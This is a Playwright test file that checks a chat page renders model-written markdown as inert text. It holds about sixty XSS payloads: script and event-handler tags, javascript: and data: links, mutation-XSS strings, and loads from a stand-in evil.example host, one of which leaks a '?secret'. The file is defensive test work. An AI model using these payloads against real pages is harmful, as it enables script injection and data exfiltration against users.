"""Whatever a model writes, the page shows it as text: nothing runs, nothing is loaded from elsewhere."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from tests.browser.page_server import PageServer, chunk

pytestmark = pytest.mark.browser

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action='https://evil.example/'><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import 'https://evil.example/b.css';</style>",
    "<div style='background:url(https://evil.example/c.png)'>x</div>",
    "<base href='https://evil.example/'>",
    "<object data='https://evil.example/d'></object>",
    "<a href='javascript:alert(1)'>raw</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#10;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](blob:https://evil.example/1)",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "![pic](https://evil.example/p.png?secret)",
    "![pic](//evil.example/p.png)",
    "![pic](javascript:alert(1))",
    "![pic](data:image/svg+xml,<svg onload=alert(1)>)",
    "![ref]\n\n[ref]: https://evil.example/r.png",
    "[![pic](https://evil.example/q.png)](javascript:alert(1))",
    '![x](https://evil.example/s.png "onerror=alert(1)")',
    "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    '```js" onmouseover="alert(1)\ncode\n```',
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "note[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "https://evil.example/<script>alert(1)</script>",
    "www.evil.example/'onmouseover='alert(1)",
    "- <img src=x\n  onerror=alert(1)>",
    "\\<img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<img src=x onerror=alert(1)//",
    "<<script>script>alert(1)<</script>/script>",
    "<a href='https://evil.example' ping='https://evil.example/ping'>x</a>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<portal src=https://evil.example>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<video poster=https://evil.example/v.png></video>",
    "<embed src=https://evil.example/e.swf>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<img srcset='https://evil.example/t.png 1x'>",
    "$$\\href{javascript:alert(1)}{x}$$",
)
# In any of these places a tag or a scheme would be at work; as text it is harmless.
ACTIVE = ", ".join(
    [
        ".markdown :is(script, iframe, object, embed, style, link, meta, base, form, math, img, video, audio)",
        ".markdown :is(template, noscript, portal, frame, :is(svg, button):not(.icon-button, .icon-button *))",
        ".markdown [style*='url']",
        ".markdown [ping]",
    ]
)


def test_there_are_sixty_strings() -> None:
    assert len(set(HOSTILE)) >= 60


# Of the answer's links, none leads anywhere but to the web or to a mail program, and no handler is left.
LEFT_OVERS = """() => [...document.querySelectorAll('.messages *')].flatMap((element) => [
  ...element.getAttributeNames().filter((name) => name.startsWith('on')),
  ...(element.href !== undefined && !/^(https?|mailto):/.test(String(element.href)) ? [String(element.href)] : []),
])"""


def test_hostile_markdown_does_nothing(page: Page, server: PageServer) -> None:  # C075
    server.answer = [piece for text in HOSTILE for piece in (chunk("\n\n" + text), chunk("\n\nafterwards\n\n"))]
    server.answer.append(chunk("The end.", finish="stop"))
    page.goto(server.url)
    page.get_by_label("Message", exact=True).fill("<img src=x onerror=alert(1)>")
    page.keyboard.press("Enter")
    expect(page.get_by_text("The end.")).to_be_visible()
    expect(page.locator(ACTIVE)).to_have_count(0)
    assert page.evaluate(LEFT_OVERS) == []
    # What was a link to a script is plain text, and stays so when it is clicked.
    disarmed = page.locator(".markdown span")
    assert disarmed.count() > 5
    for text in disarmed.all():
        text.click(force=True)


@pytest.mark.parametrize("text", ["<b>bold</b>", "a < b && c > d", "use <div> here"])
def test_tags_are_shown_as_text(page: Page, server: PageServer, text: str) -> None:
    server.answer = [chunk(text), chunk(finish="stop")]
    page.goto(server.url)
    page.get_by_label("Message", exact=True).fill("show me")
    page.keyboard.press("Enter")
    expect(page.locator(".markdown")).to_have_text(text)


def test_remote_pictures_become_links(page: Page, server: PageServer) -> None:
    server.answer = [chunk("![a cat](https://pictures.example/cat.png?who=me)"), chunk(finish="stop")]
    page.goto(server.url)
    page.get_by_label("Message", exact=True).fill("show me")
    page.keyboard.press("Enter")
    link = page.get_by_role("link", name="a cat")
    expect(link).to_have_attribute("href", "https://pictures.example/cat.png?who=me")
    expect(page.locator(".markdown img")).to_have_count(0)
